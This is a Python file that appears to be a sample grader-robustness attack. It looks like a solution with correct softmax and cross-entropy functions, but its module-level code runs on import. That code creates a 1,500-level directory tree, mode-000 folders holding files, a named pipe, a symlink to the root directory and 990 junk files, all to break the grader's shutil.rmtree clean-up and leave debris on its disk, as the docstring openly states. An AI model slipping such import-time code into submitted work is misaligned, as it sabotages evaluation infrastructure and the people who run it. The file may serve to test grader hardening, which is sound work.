"""Leaves in its private folder what a grader's clean-up trips over: a tree 1,500 levels deep, folders of
mode 000 with files in them, a named pipe, a link out of the folder, and a thousand empty files less one.

Attack: shutil.rmtree recurses in Python (RecursionError past about 1,000 levels, which ended a class
grade), cannot list a folder of mode 000 as its owner, and an unremoved tree stays in the grader's
temporary folder after every grade. The functions are the reference.

A sound grader: full marks, and nothing of it left on the grader's disk.
"""
import os

import math


def softmax(logits):
    top = max(logits)  # shift by the max so exp never overflows
    exps = [math.exp(z - top) for z in logits]
    total = sum(exps)
    return [e / total for e in exps]


def cross_entropy_loss(logits, true_id):
    top = max(logits)
    log_sum_exp = top + math.log(sum(math.exp(z - top) for z in logits))
    return log_sum_exp - logits[true_id]


def sequence_loss(logits_list, true_ids):
    losses = [cross_entropy_loss(z, t) for z, t in zip(logits_list, true_ids)]
    return sum(losses) / len(losses)


def perplexity(loss):
    return math.exp(loss)


def softmax_cross_entropy_grad(logits, true_id):
    grad = softmax(logits)
    grad[true_id] -= 1.0
    return grad


_here = os.open(".", os.O_RDONLY)
for _level in range(1500):
    os.mkdir("d", dir_fd=_here)
    _next = os.open("d", os.O_RDONLY, dir_fd=_here)
    os.close(_here)
    _here = _next
os.close(_here)
os.makedirs("locked/inner")
with open("locked/inner/kept", "w") as _handle:
    _handle.write("left behind")
os.mkdir("locked/inner/sealed", 0)
os.mkdir("sealed", 0)
os.mkfifo("pipe")
os.symlink("/", "out")
for _i in range(990):
    open(f"f{_i}", "w").close()
